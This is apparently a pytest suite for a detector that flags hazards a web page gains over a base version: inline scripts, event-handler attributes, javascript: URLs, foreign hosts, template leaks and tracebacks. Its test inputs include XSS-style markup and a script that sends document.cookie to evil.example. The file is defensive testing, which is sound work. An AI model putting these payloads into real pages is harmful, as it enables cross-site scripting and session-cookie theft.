"""What a page must not gain is found in it, and only that."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import gates
from bot.model import WITHHELD, Response
from gates.finding import objections
from gates.gain import Known, fresh, gained, known, nowhere
from gates.hazards import LARGEST, SOURCE, Hazard
from gates.page import PageFacts, facts
from gates.question import Question, Target

NOTHING = Known(frozenset(), frozenset())


def page(body: str, url: str = "/", status: int = 200) -> tuple[Question, PageFacts]:
    one = Question("GET", url)
    return one, facts(Response(status, (("Content-Type", "text/html"),), body.encode()), one.whole)


def found(body: str) -> list[tuple[str, str]]:
    return [(hazard.kind, hazard.shown) for hazard in page(body)[1].hazards]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("<script>go()</script>", ("inline script", "go()")),
        ("<script type=module>go()</script>", ("inline script", "go()")),
        ("<p ONCLICK='go()'>x</p>", ("handler attribute", "onclick=go()")),
        ("<svg/onload=go()>", ("handler attribute", "onload=go()")),
        ("<a href=' java\nscript:go()'>x</a>", ("javascript: URL", "java script:go()")),
        ("<a href='java&#115;cript:go()'>x</a>", ("javascript: URL", "javascript:go()")),
        ("<iframe src='data:text/html,x'></iframe>", ("javascript: URL", "data:text/html,x")),
        ("<form action=//evil.example/x></form>", ("foreign host", "evil.example")),
        ("<img src=http://evil.example/p.png>", ("foreign host", "evil.example")),
        ("<img srcset='/a.png 1x, //evil.example/b.png 2x'>", ("foreign host", "evil.example")),
        ("<link rel=stylesheet href=https://evil.example/a.css>", ("foreign host", "evil.example")),
        ("<base href=https://evil.example/>", ("foreign host", "evil.example")),
        ("<meta http-equiv=refresh content='0; url=https://evil.example/'>", ("foreign host", "evil.example")),
        ("<p>Hello {{ name }}</p>", ("template source", "{{ name }}")),
        ("<a href='{% url x %}'>x</a>", ("template source", "{% url x %}")),
        (f"<p>{WITHHELD}</p>", ("secret of this machine", WITHHELD)),
        (
            "<pre>Traceback (most recent call last):\n  File x\nKeyError: 'a'</pre>",
            ("traceback", "KeyError: 'a'</pre>"),
        ),
    ],
)
def test_a_hazard_is_found(body: str, expected: tuple[str, str]) -> None:
    assert expected in found(body)


@pytest.mark.parametrize(
    "body",
    [
        "<a href=https://elsewhere.example/>out</a><link rel=canonical href=https://elsewhere.example/>",
        "<script src=/own.js></script><script type=application/ld+json>{}</script>",
        "<pre>{{ name }}</pre><p>a <code>{% if %}</code></p>",
        "<p>online = on</p><img src=http://localhost/own.png><p title=once>on load = x</p>",
    ],
)
def test_what_is_no_hazard_is_left_alone(body: str) -> None:
    assert found(body) == []


def test_a_script_names_the_hosts_it_speaks_to() -> None:
    assert ("foreign host", "evil.example") in found(
        "<script>fetch('https://evil.example/' + document.cookie)</script>"
    )


def test_code_that_base_has_anywhere_is_no_news_and_other_code_is() -> None:
    _, base = page("<script>go()</script><img src=//cdn.example/x>")
    one, now = page(
        "<script>go()</script><script>steal()</script><img src=//cdn.example/y><img src=//ads.example/>", "/x"
    )
    findings = list(gained([one], {one.key: now}, known([base], (), False), {}))
    assert [(found.code, found.subject) for found in findings] == [
        ("foreign-host", "ads.example"),
        ("inline-script", "steal()"),
    ]
    allowed = known([base], ("ads.example",), True)
    assert list(gained([one], {one.key: now}, allowed, {})) == []


def test_a_script_whose_values_vary_at_base_may_vary_on() -> None:
    script = "<script>var token = '{}'; go(7)</script>"
    two = [page(script.format(token), url)[1] for token, url in (("a", "/a"), ("b", "/b"))]
    one, now = page(script.format("c"), "/c")
    assert list(gained([one], {one.key: now}, known(two, (), False), {})) == []
    assert list(gained([one], {one.key: now}, known(two[:1], (), False), {})) != []
    _, other = page("<script>var token = 'c'; gone(7)</script>")
    assert list(gained([one], {one.key: other}, known(two, (), False), {})) != []


def test_a_traceback_is_no_news_only_where_base_shows_it() -> None:
    text = "Traceback (most recent call last):\nKeyError"
    _, base = page(text, "/debug")
    for url, codes in (("/debug", []), ("/", ["traceback"])):
        one, now = page(text, url)
        assert [found.code for found in gained([one], {one.key: now}, known([base], (), False), {})] == codes


def test_new_links_are_followed_and_old_debt_is_not() -> None:
    base = [page("<a href=/fine>f</a><a href=/gone?token=1>g</a>"), page("x", "/fine")]
    now = [
        page("<a href=/fine>f</a><a href=/gone?token=2>g</a><a href=/new>n</a><img src=pic.png><a href=/logout>l</a>")
    ]
    pages = [{one.key: facts for one, facts in side} for side in (base, now)]
    found = fresh([one for one, _ in now], pages[0], [one for one, _ in base], pages[1])
    assert [target.url for target in found] == ["/new", "/pic.png"]


def test_an_old_page_with_a_new_query_is_asked() -> None:
    base = [page("<a href=/fine>f</a>"), page("x", "/fine")]
    one, now = page("<a href=/fine?page=9>f</a>")
    found = fresh([one], {each.key: facts for each, facts in base}, [each for each, _ in base], {one.key: now})
    assert found == (Target("", "/fine?page=9"),)


def test_a_dead_link_is_told_once_with_the_pages_that_have_it() -> None:
    pages = [page("<a href=/new>n</a>", url) for url in ("/", "/a")]
    findings = gained(
        [one for one, _ in pages], {one.key: now for one, now in pages}, NOTHING, {Target("", "/new"): 404}
    )
    (one,) = objections(findings)
    assert (one.code, one.subject, one.where) == ("dead-link", "/new", "/")
    assert one.what == "/ links /new, which leads nowhere (and 1 more page)"


def test_a_target_is_nowhere_when_no_answer_is_a_page() -> None:
    answers = {status: page("", status=status)[1] for status in (200, 302, 401, 404, 500, 0)}
    assert [status for status, one in answers.items() if nowhere([one])] == [404, 500, 0]
    assert not nowhere([]) and not nowhere([answers[404], answers[200]])


@given(st.text(alphabet="<>{}%#/'\"= abonscriptjv:&;!-\n", max_size=200))
def test_any_markup_is_taken_apart_and_never_gains_on_itself(body: str) -> None:
    one, now = page(body)
    assert all(isinstance(hazard, Hazard) for hazard in now.hazards)
    assert list(gained([one], {one.key: now}, known([now], (), False), {})) == []


@pytest.mark.parametrize(("more", "kinds"), [(0, []), (1, ["huge body"])])
@pytest.mark.parametrize("kind", ["text/html", "text/plain", "application/zip"])
def test_a_body_that_was_cut_is_a_hazard_of_its_path_whatever_it_holds(kind: str, more: int, kinds: list[str]) -> None:
    body = b"x" * (LARGEST + more)
    page = facts(Response(200, (("Content-Type", kind),), body), "http://localhost/log?page=2", opaque="zip" in kind)
    assert [(one.kind, one.exact) for one in page.hazards] == [(one, "/log") for one in kinds]


def test_what_is_served_and_what_is_judged_agree_on_how_much_is_read() -> None:
    assert f"\nLARGEST = {LARGEST // 1024**2} * 1024 * 1024\n" in Path(gates.__file__).with_name("serve.py").read_text()


@pytest.mark.parametrize("piece", ["{{ ", "{%", "{#{{", "<script>" + "a" * 100_000 + "</script>"])
def test_a_long_page_is_read_in_time_that_grows_with_its_length(piece: str) -> None:
    body = f"<p>{piece * (100_000 // len(piece) or 1)}</p>".encode()
    began = time.process_time()
    found = facts(Response(200, (("Content-Type", "text/html"),), body), "http://localhost/").hazards
    assert SOURCE not in {one.kind for one in found}
    assert time.process_time() - began < 3
